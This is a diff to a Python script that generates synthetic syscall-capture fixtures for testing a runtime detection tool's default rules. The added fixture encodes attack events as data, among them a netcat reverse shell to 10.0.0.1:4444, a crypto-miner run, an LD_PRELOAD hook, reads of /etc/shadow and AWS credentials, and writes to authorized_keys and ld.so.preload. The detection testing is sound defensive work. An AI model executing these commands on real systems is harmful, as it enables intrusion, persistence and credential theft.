@@ -389,6 +389,61 @@ def containers():
         write(k + '.scap', v)
     return sorted(T)
 
+def execve_full(ts, tid, ptid, exe, comm, args=b'', env=b'', tty=0, cgroups=b''):
+    """A successful execve exit (version 18) with arguments, environment and terminal."""
+    q = lambda v: struct.pack('<q', v)
+    u = lambda v: struct.pack('<I', v)
+    return ev_v2(ts, tid, 289, [q(0), exe + b'\0', args, q(tid), q(tid), q(ptid), b'/\0', q(1024),
+                                q(0), q(0), u(0), u(0), u(0), comm + b'\0', cgroups, env, u(tty)])
+
+def open_write(ts, tid, fd, path):
+    """openat exit, O_WRONLY|O_CREAT (libs' PPM_O_* flags: 2 | 4)."""
+    return ev_v2(ts, tid, 307, [struct.pack('<q', fd), struct.pack('<q', -100), path + b'\0',
+                                struct.pack('<I', 6), struct.pack('<I', 0o644), struct.pack('<I', 0)])
+
+def attacks():
+    """a01_attacks: one event per technique lanner's default rules (rules/lanner_rules.yaml)
+    detect, each meant to raise exactly one rule; crates/lanner/tests/default_rules.rs checks
+    which rules fire and how often."""
+    docker = cg('cpu=/docker/' + DOCKER)
+    procs = [
+        pl_v9_entry(100, 100, b'bash', b'/bin/bash', loginuid=1000),
+        pl_v9_entry(200, 200, b'nginx', b'/usr/sbin/nginx'),
+        pl_v9_entry(300, 300, b'cat', b'/usr/bin/cat', args=b'/etc/shadow\0'),
+        pl_v9_entry(400, 400, b'curl', b'/usr/bin/curl'),
+        pl_v9_entry(500, 500, b'sh', b'/bin/sh', cgroups=docker),
+    ]
+    t = TS
+    def step():
+        nonlocal t
+        t += 1_000_000
+        return t
+    ev = b''
+    # Execution
+    ev += execve_full(step(), 101, 100, b'/tmp/payload', b'payload')
+    ev += clone_child(step(), 201, 200, b'nginx', b'')
+    ev += execve_full(step(), 201, 200, b'/bin/bash', b'bash', args=b'-c\0id\0')
+    ev += execve_full(step(), 102, 100, b'/usr/bin/nc', b'nc', args=b'-e\0/bin/sh\0' + b'10.0.0.1\0' + b'4444\0')
+    ev += execve_full(step(), 103, 100, b'/opt/xmrig', b'xmrig')
+    ev += execve_full(step(), 104, 100, b'/usr/bin/ls', b'ls', env=b'LD_PRELOAD=/opt/hook.so\0')
+    ev += execve_full(step(), 105, 100, b'/usr/bin/find', b'find', args=b'/\0-name\0id_rsa\0')
+    ev += execve_full(step(), 106, 100, b'/usr/sbin/iptables', b'iptables', args=b'-F\0')
+    # Containers: an interactive shell, a package manager
+    ev += clone_child(step(), 501, 500, b'sh', docker)
+    ev += execve_full(step(), 501, 500, b'/bin/bash', b'bash', tty=34816, cgroups=docker)
+    ev += clone_child(step(), 502, 500, b'sh', docker)
+    ev += execve_full(step(), 502, 500, b'/usr/bin/apt-get', b'apt-get', args=b'install\0nmap\0', cgroups=docker)
+    # Credential access
+    ev += openat_x(step(), 300, 3, b'/etc/shadow')
+    ev += openat_x(step(), 400, 4, b'/root/.aws/credentials')
+    # Persistence and tampering
+    ev += open_write(step(), 400, 5, b'/etc/evil.conf')
+    ev += open_write(step(), 400, 6, b'/usr/bin/evil')
+    ev += open_write(step(), 100, 7, b'/root/.ssh/authorized_keys')
+    ev += open_write(step(), 100, 8, b'/etc/ld.so.preload')
+    ev += open_write(step(), 100, 9, b'/home/alice/.bashrc')
+    return header_for(procs) + ev
+
 def header_for(pl_entries):
     return (shb() + mi() + il_v2([(b'lo', 0x0100007f)]) +
             ul_v2([(0, 0, b'root', b'/root', b'/bin/sh')], [(0, b'root')]) + pl_v9(pl_entries))
@@ -405,3 +460,4 @@ if __name__ == '__main__':
     extra()
     process_lists()
     containers()
+    write('a01_attacks.scap', attacks())
